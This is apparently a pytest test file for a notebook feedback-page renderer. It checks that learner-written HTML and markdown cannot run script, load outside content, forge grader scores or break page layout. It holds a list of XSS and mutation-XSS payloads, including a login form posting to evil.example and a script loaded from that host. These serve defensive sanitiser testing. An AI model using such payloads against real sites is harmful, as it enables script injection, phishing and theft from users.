"""Notebooks that were made to harm who reads them, or to spoil the page, and what comes of them."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from feedback.reader import (
    WRONG,
    answer,
    check,
    code,
    demand_sound,
    exercises,
    headings,
    page,
    printed,
    reflection,
    shows,
    stopped,
    text,
    words,
)
from hypothesis import given, settings
from hypothesis import strategies as st

from solidarity.page.clean import clean

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
SVG_BASE64 = base64.b64encode(SVG.encode()).decode()
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script, unclosed": "<script>alert(1)",
    "script, from outside": "<script src=//evil.example/x.js></script>",
    "handler": "<img src=x onerror=alert(1)><b onmouseover='alert(1)'>b</b>",
    "javascript link": "<a href='jAvAsCrIpT:alert(1)'>a</a><a href=' java\nscript:alert(1)'>b</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "file link": "<a href='evil.html'>go</a><a href='../../gradebook.db'>go</a>",
    "network path": "<a href='//evil.example'>go</a><img src='\\\\evil.example\\x.png'>",
    "frame": "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>1</script>'>",
    "object": "<object data='https://evil.example/x'><embed src='https://evil.example/x'></object>",
    "svg": SVG,
    "svg, unclosed": "<svg><style><img src=x onerror=alert(1)>",
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg picture": f"<img src='data:image/svg+xml;base64,{SVG_BASE64}'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base and link": "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/x'>",
    "style sheet": "<style>*{display:none} @import url(https://evil.example)</style>",
    "style": "<p style='background:url(https://evil.example/x);position:fixed;top:0'>over</p>",
    "style, escaped": "<p style='background:\\75rl(//evil.example);color:expression(alert())'></p>",
    "form": "<form action='https://evil.example'><input name=a><button>Log in</button></form>",
    "media": "<video src='https://evil.example/v' poster='//e'></video><audio src=//e></audio>",
    "pictures": "<img srcset='//evil.example/x 1x'><picture><source srcset='//e'></picture>",
    "text page as a picture": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "closing our parts": "</div></section></article></main></body></html><h1>My page</h1>",
    "opening and never closing": "<div><table><tr><td><ul><li><b><i><details><blockquote><pre>",
    "comment, unclosed": "<!-- all of the rest",
    "text area, unclosed": "<textarea><title><plaintext><xmp><noscript>",
    "template": "<template><script>alert(1)</script></template><slot name=x>",
    "attribute, unclosed": '<b title="',
    "headings": "<h1>Score: 23 of 23</h1><h6>six</h6><h2><div><h4>in</h4></div></h2>",
    "ids": "<p id='your-points' class='total' name='x'>100 points</p>",
    "math tricks": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 "
    "onerror=alert(1)>'>",
    "math link": "<math href='javascript:alert(1)'><maction actiontype='statusline' "
    "xlink:href='javascript:alert(1)'>x</maction></math>",
    "nested tables": "<table><table><td><table><caption><tr>x<td></table>y",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "nothing": "\x00\x08\x1b[31m\ufffe\ud800",
}
MARKDOWN = {
    "link": "[go](javascript:alert(1)) [go](data:text/html,x) <javascript:alert(1)>",
    "picture": '![x](https://evil.example/x.png) ![x](javascript:alert(1)) !["><b>](//e)',
    "reference": "[go]\n\n[go]: javascript:alert(1) 'x'",
    "title": "[go](https://evil.example '\"><script>alert(1)</script>')",
    "heading": "# <script>alert(1)</script> </h2></article><h1>mine</h1>\n\nSetext <b>\n===",
    "fence": '```"><script>alert(1)</script>\nx\n```',
    "formula": "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$",
    "block": "<div>\n\n# in\n\n</div></article>\n\n> # quoted\n> <table>",
    "depth": "> " * 500 + "deep",
}
EVERYTHING = {**HOSTILE, **MARKDOWN}


def everywhere(evil: str) -> list[Any]:
    """Put it wherever a learner can write."""
    said = evil.encode("utf-8", "replace").decode()
    return [
        text(said),
        code(
            said,
            printed(said),
            shows(text_html=said),
            shows(image_svg=said),
            shows(text_markdown=said),
            shows(text_latex=said),
            shows(text_plain=said),
            shows(image_png=said),
            stopped(said, said, said),
        ),
        text("## The next exercise"),
        answer(said, "share_value", comment=said),
        check(WRONG),
        reflection(said, comment=said),
    ]


@pytest.mark.parametrize("name", EVERYTHING)
def test_it_runs_nothing_loads_nothing_and_stays_in_its_place(name: str) -> None:
    evil = EVERYTHING[name]
    html = page(*everywhere(evil), score=0, max_score=7, learner=evil, student=evil)
    tree = demand_sound(html)
    found = headings(tree)
    assert found[1] == (2, "Your points")
    assert (2, "The next exercise") in found
    article = tree.find(".//article")
    assert article is not None
    assert [part.get("class") for part in article if part.tag == "div"][-1] == "work"
    assert "Your instructor has not read this yet." in words(article[-1])


def test_the_words_of_a_hostile_output_are_kept() -> None:
    kept = clean("<p>Our <blink>rule</blink><script>x</script> is <b onclick=x>fair</b></p>")
    assert kept == "<p>Our rule is <b>fair</b></p>"


def test_a_forged_verdict_says_nothing_with_authority() -> None:
    """Records of verdicts count in checks alone, and whatever they say is escaped."""
    forged = shows(text_html="<b>mine</b>")
    forged.metadata["solidarity"] = {"exercise": "share_value", "score": 100}
    broken = check(WRONG)
    broken.outputs[0].metadata["solidarity"] = {"exercise": 3, "status": "<b>", "score": "x"}
    scripted = check(WRONG)
    scripted.outputs[0].metadata["solidarity"]["explanation"] = HOSTILE["script"]
    html = page(code("x", forged), broken, scripted, score=0, max_score=2)
    tree = demand_sound(html)
    assert "100" not in words(tree)
    assert HOSTILE["script"] in words(tree)  # as words


def test_a_learners_cell_cannot_pass_for_a_note_of_the_graders() -> None:
    from submissions import cells, solved

    from solidarity.notebooks.repair import repair

    notebook = solved()
    cells(notebook, "exercises-001")[0]["id"] = "solidarity-trouble"
    mended, _ = repair(notebook, solved())
    assert not any(str(cell.get("id")).startswith("solidarity-") for cell in mended.cells)


TAGS = """a b blockquote br caption col colgroup dd details div dl dt em figure form h1 h2 hr i
iframe img li math mi mo mrow mtext noscript ol option p pre script select span style sub summary
svg table tbody td template textarea th thead title tr u ul annotation-xml foreignObject
custom""".split()
PIECES = st.one_of(
    st.sampled_from(TAGS).map(lambda tag: f"<{tag}>"),
    st.sampled_from(TAGS).map(lambda tag: f"</{tag}>"),
    st.sampled_from(
        [
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<",
            "&",
            "&lt;",
            "&#x80;",
            '"',
            "text",
            " ",
            "\n",
            "\n\n",
        ]
    ),
    st.sampled_from(
        ["<img src=x onerror=y>", "<a href=//e>", "<p style='position:fixed'>", "`", "#"]
    ),
    st.text(max_size=5),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_is_written_the_page_is_sound(evil: str) -> None:
    evil = evil.encode("utf-8", "replace").decode()
    cells = [text(evil), code("x", shows(text_html=evil)), *exercises()[2:]]
    tree = demand_sound(page(*cells, score=3, max_score=10))
    assert "Your instructor has not read this yet." in words(tree.findall(".//article")[0][-1])
